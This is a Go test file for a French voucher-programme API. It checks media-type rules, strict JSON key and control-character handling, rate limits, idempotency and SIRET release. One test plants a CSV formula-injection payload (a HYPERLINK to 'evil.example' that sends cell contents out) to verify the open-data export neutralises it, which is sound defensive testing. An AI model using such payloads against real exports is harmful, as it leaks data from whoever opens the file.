package api_test

import (
	"bytes"
	"encoding/csv"
	"encoding/json"
	"fmt"
	"io"
	"log/slog"
	"net/http"
	"net/http/httptest"
	"slices"
	"strings"
	"testing"
	"time"

	"passnum"
	"passnum/server"
	"passnum/store"
	"passnum/store/storetest"
	"passnum/web"
)

// eachBehindProxy is each with the server trusting 127.0.0.1 as a reverse
// proxy, so that requests may come from any address (X-Forwarded-For).
func eachBehindProxy(t *testing.T, fn func(t *testing.T, e *env)) {
	t.Helper()
	storetest.Each(t, func(t *testing.T, s *store.Store, clock *passnum.FixedClock) {
		e := newEnv(t, s, clock)
		h, err := server.New(s, slog.New(slog.DiscardHandler), web.Config{TrustedProxy: "127.0.0.1"})
		if err != nil {
			t.Fatal(err)
		}
		srv := httptest.NewServer(h)
		t.Cleanup(srv.Close)
		e.srv = srv
		fn(t, e)
	})
}

// raw sends a body as it is, with the given Content-Type ("" for none).
func (e *env) raw(method, path, key, contentType, body string) response {
	e.t.Helper()
	req, _ := http.NewRequest(method, e.srv.URL+apiPath(path), strings.NewReader(body))
	if key != "" {
		req.Header.Set("Authorization", "Bearer "+key)
	}
	if contentType != "" {
		req.Header.Set("Content-Type", contentType)
	}
	res, err := http.DefaultClient.Do(req)
	if err != nil {
		e.t.Fatal(err)
	}
	defer res.Body.Close()
	b, _ := io.ReadAll(res.Body)
	out := response{Status: res.StatusCode, Header: res.Header, Raw: b}
	if len(bytes.TrimSpace(b)) > 0 && b[0] == '{' {
		if err := json.Unmarshal(b, &out.Body); err != nil {
			e.t.Fatalf("answer is not JSON: %v\n%s", err, b)
		}
	}
	return out
}

func wantFieldError(t *testing.T, r response, field, says string) {
	t.Helper()
	errs, _ := r.Body["errors"].([]any)
	for _, fe := range errs {
		if m := fe.(map[string]any); m["field"] == field && strings.Contains(m["detail"].(string), says) {
			return
		}
	}
	t.Fatalf("no error on %s saying %q: %s", field, says, r.Raw)
}

// A JSON body needs its media type; a route that reads other types names
// them.
func TestContentTypeRequired(t *testing.T) {
	each(t, func(t *testing.T, e *env) {
		body := `{"first_name":"Léa","last_name":"Martin","birth_date":"2005-05-17","commune_insee":"25056","job_seeker":true,"in_studies":false}`
		for _, ct := range []string{"", "text/plain", "application/x-www-form-urlencoded", "text/csv", "application/jsonx"} {
			r := e.raw("POST", "/beneficiaries", e.distributor, ct, body)
			e.expect(r, 415, passnum.EUNSUPPORTEDMEDIA)
			if !strings.Contains(r.Body["detail"].(string), "application/json") {
				t.Fatalf("%q: %s", ct, r.Raw)
			}
		}
		e.expect(e.raw("POST", "/beneficiaries", e.distributor, "application/json; charset=utf-8", body), 201, "")
		// Nothing was written by the refused ones.
		if l := e.do("GET", "/beneficiaries", e.distributor, nil); len(l.Body["items"].([]any)) != 1 {
			t.Fatalf("refused requests wrote: %s", l.Raw)
		}
		// No body, no type needed.
		e.expect(e.raw("POST", "/places/"+e.placeID+"/label", e.operator, "", ""), 200, "")
		// The open-data import takes CSV or JSON, nothing else.
		e.expect(e.raw("POST", "/opendata/imports", e.operator, "text/plain", "id,pivot\n"), 415, passnum.EUNSUPPORTEDMEDIA)
	})
}

// Keys given twice, keys that match a field only when case is ignored,
// and NUL characters are refused, naming the field, on both engines.
func TestStrictKeysAndText(t *testing.T) {
	each(t, func(t *testing.T, e *env) {
		for _, c := range []struct {
			name, body, field, says string
		}{
			{"duplicate", `{"first_name":"Léa","first_name":"Zoé","last_name":"Martin","birth_date":"2005-05-17","commune_insee":"25056","job_seeker":true,"in_studies":false}`, "first_name", "en double"},
			{"case variant twice", `{"first_name":"Léa","FIRST_NAME":"Zoé","last_name":"Martin","birth_date":"2005-05-17","commune_insee":"25056","job_seeker":true,"in_studies":false}`, "FIRST_NAME", "casse"},
			{"case variant", `{"First_Name":"Léa","last_name":"Martin","birth_date":"2005-05-17","commune_insee":"25056","job_seeker":true,"in_studies":false}`, "First_Name", "respectent la casse"},
			{"NUL", `{"first_name":"L\u0000a","last_name":"Martin","birth_date":"2005-05-17","commune_insee":"25056","job_seeker":true,"in_studies":false}`, "first_name", "caractère nul"},
			{"bidi override", `{"first_name":"L\u202ea","last_name":"Martin","birth_date":"2005-05-17","commune_insee":"25056","job_seeker":true,"in_studies":false}`, "first_name", "inversion"},
			{"control", `{"first_name":"Léa","last_name":"Mar\u001btin","birth_date":"2005-05-17","commune_insee":"25056","job_seeker":true,"in_studies":false}`, "last_name", "contrôle"},
		} {
			t.Run(c.name, func(t *testing.T) {
				r := e.do("POST", "/beneficiaries", e.distributor, c.body)
				e.expect(r, 422, passnum.EINVALID)
				wantFieldError(t, r, c.field, c.says)
			})
		}
		// Nested, in a list.
		r := e.do("POST", "/programmes", e.operator, `{"name":"P","face_value_cents":1000,"booklet_size":5,"valid_from":"2026-01-01","valid_until":"2026-12-31",
			"funders":[{"organisation_id":"`+e.funderID+`","share_bps":10000,"share_bps":1}]}`)
		e.expect(r, 422, passnum.EINVALID)
		wantFieldError(t, r, "funders.share_bps", "en double")
		// A NUL in an organisation's name, a filter, a query: 4xx, never 500.
		e.expect(e.do("POST", "/organisations", e.operator, `{"kind":"distributor","name":"Mission\u0000locale"}`), 422, passnum.EINVALID)
		e.expect(e.do("GET", "/beneficiaries?q=l%00a", e.distributor, nil), 422, passnum.EINVALID)
		e.expect(e.do("GET", "/audit?object_id=a%00b", e.operator, nil), 422, passnum.EINVALID)
		e.expect(e.do("GET", "/places/near?commune=25056%00", "", nil), 422, passnum.EINVALID)
		if l := e.do("GET", "/beneficiaries", e.distributor, nil); len(l.Body["items"].([]any)) != 0 {
			t.Fatalf("a refused request wrote: %s", l.Raw)
		}
	})
}

// Anonymous label applications are limited per address and per day; an
// anonymous caller's idempotency keys are its own.
func TestAnonymousApplicationsLimited(t *testing.T) {
	eachBehindProxy(t, func(t *testing.T, e *env) {
		from := func(addr string) []string { return []string{"X-Forwarded-For", addr} }
		for i := range passnum.ApplicationAddressLimit.Max {
			e.expect(e.do("POST", "/place-applications", "", applicationBody(applicantSIRET(100+i)), from("203.0.113.5")...), 201, "")
		}
		r := e.do("POST", "/place-applications", "", applicationBody(applicantSIRET(200)), from("203.0.113.5")...)
		e.expect(r, 429, passnum.ETOOMANYATTEMPTS)
		if r.Header.Get("Retry-After") == "" {
			t.Fatalf("no Retry-After: %v", r.Header)
		}
		// A refused application creates nothing (the env's own place is
		// pending too).
		list := e.do("GET", "/place-applications?status=pending&limit=100", e.operator, nil)
		if n := len(list.Body["items"].([]any)); n != passnum.ApplicationAddressLimit.Max+1 {
			t.Fatalf("%d pending places, want %d", n, passnum.ApplicationAddressLimit.Max+1)
		}
		e.expect(e.do("POST", "/place-applications", "", applicationBody(applicantSIRET(200)), from("203.0.113.6")...), 201, "")
		e.clock.Advance(24*time.Hour + time.Second)
		e.expect(e.do("POST", "/place-applications", "", applicationBody(applicantSIRET(201)), from("203.0.113.5")...), 201, "")

		// Idempotency keys: one anonymous caller's key does not answer, nor
		// block, another's.
		first := e.do("POST", "/place-applications", "", applicationBody(applicantSIRET(300)), append(from("198.51.100.1"), "Idempotency-Key", "candidature-1")...)
		e.expect(first, 201, "")
		again := e.do("POST", "/place-applications", "", applicationBody(applicantSIRET(300)), append(from("198.51.100.1"), "Idempotency-Key", "candidature-1")...)
		e.expect(again, 201, "")
		if again.Body["id"] != first.Body["id"] {
			t.Fatalf("a retry made another application: %s", again.Raw)
		}
		other := e.do("POST", "/place-applications", "", applicationBody(applicantSIRET(301)), append(from("198.51.100.2"), "Idempotency-Key", "candidature-1")...)
		e.expect(other, 201, "")
		if other.Body["id"] == first.Body["id"] {
			t.Fatal("another address got the first caller's answer")
		}
	})
}

// The operator releases a squatted SIRET; the real organisation applies.
func TestReleaseSIRETRoute(t *testing.T) {
	each(t, func(t *testing.T, e *env) {
		siret := applicantSIRET(400)
		squat, _ := e.applyForLabel(applicationBody(siret))
		e.expect(e.do("POST", "/place-applications", "", applicationBody(siret)), 409, passnum.ECONFLICT)
		path := "/places/" + squat + "/release-siret"
		for _, key := range []string{e.place, e.distributor, e.funder} {
			e.expect(e.do("POST", path, key, map[string]any{"reason": "x"}), 403, passnum.EFORBIDDEN)
		}
		e.expect(e.do("POST", path, "", map[string]any{"reason": "x"}), 401, passnum.EUNAUTHENTICATED)
		e.expect(e.do("POST", path, e.operator, map[string]any{}), 422, passnum.EINVALID)
		r := e.do("POST", path, e.operator, map[string]any{"reason": "SIRET d'une autre structure"})
		e.expect(r, 200, "")
		if r.Body["siret"] != siret || r.Body["siret_released_at"] == nil {
			t.Fatalf("released: %s", r.Raw)
		}
		e.expect(e.do("POST", path, e.operator, map[string]any{"reason": "encore"}), 409, passnum.ECONFLICT)
		e.applyForLabel(applicationBody(siret))
		// A labelled place's SIRET is not released.
		e.expect(e.do("POST", "/places/"+e.placeID+"/label", e.operator, nil), 200, "")
		e.expect(e.do("POST", "/places/"+e.placeID+"/release-siret", e.operator, map[string]any{"reason": "x"}), 409, passnum.ECONFLICT)
		e.expect(e.do("POST", "/places/"+passnum.NewID(e.clock.Now())+"/release-siret", e.operator, map[string]any{"reason": "x"}), 404, passnum.ENOTFOUND)
	})
}

// A place can name its site like a spreadsheet formula; the public
// open-data CSV writes it neutralised, and stays valid against the
// national schema.
func TestOpenDataFormulaNeutralised(t *testing.T) {
	fields := odLoadSchema(t)
	each(t, func(t *testing.T, e *env) {
		formula := `=HYPERLINK("https://evil.example/?"&A1;"Cliquez ici")`
		id, _ := e.applyForLabel(applicationBody(applicantSIRET(500), func(m map[string]any) {
			applicationSite(m)["name"] = formula
			applicationSite(m)["address"] = "@SUM(1+1)"
		}))
		// Pending: not published at all.
		if strings.Contains(odExport(t, e, "?scope=all"), "HYPERLINK") {
			t.Fatal("a pending application is published")
		}
		e.expect(e.do("POST", "/places/"+id+"/label", e.operator, nil), 200, "")
		export := odExport(t, e, "")
		odCheckSchema(t, export, fields)
		recs, err := csv.NewReader(strings.NewReader(export)).ReadAll()
		if err != nil {
			t.Fatal(err)
		}
		nom, adresse := slices.Index(passnum.OpenDataFields, "nom"), slices.Index(passnum.OpenDataFields, "adresse")
		found := false
		for _, rec := range recs[1:] {
			for _, cell := range rec {
				if c := strings.TrimSpace(cell); c != "" && strings.ContainsRune("=+-@", rune(c[0])) && !isSignedNumber(c) {
					t.Fatalf("a cell a spreadsheet would run: %q", cell)
				}
			}
			if strings.Contains(rec[nom], "HYPERLINK") {
				found = true
				if rec[nom] == formula || !strings.HasSuffix(rec[nom], formula) || rec[adresse] == "@SUM(1+1)" {
					t.Fatalf("not neutralised: %q, %q", rec[nom], rec[adresse])
				}
			}
		}
		if !found {
			t.Fatalf("the labelled place's site is missing:\n%s", export)
		}
		// The JSON export carries the name as it is: JSON runs nothing.
		j := e.do("GET", odJSON, "", nil)
		if !bytes.Contains(j.Raw, []byte(`"nom":"=HYPERLINK(`)) {
			t.Fatalf("JSON export: %.300s", j.Raw)
		}
	})
}

func isSignedNumber(s string) bool {
	var f float64
	_, err := fmt.Sscanf(strings.ReplaceAll(strings.ReplaceAll(s, " ", ""), ",", "."), "%g", &f)
	return err == nil
}
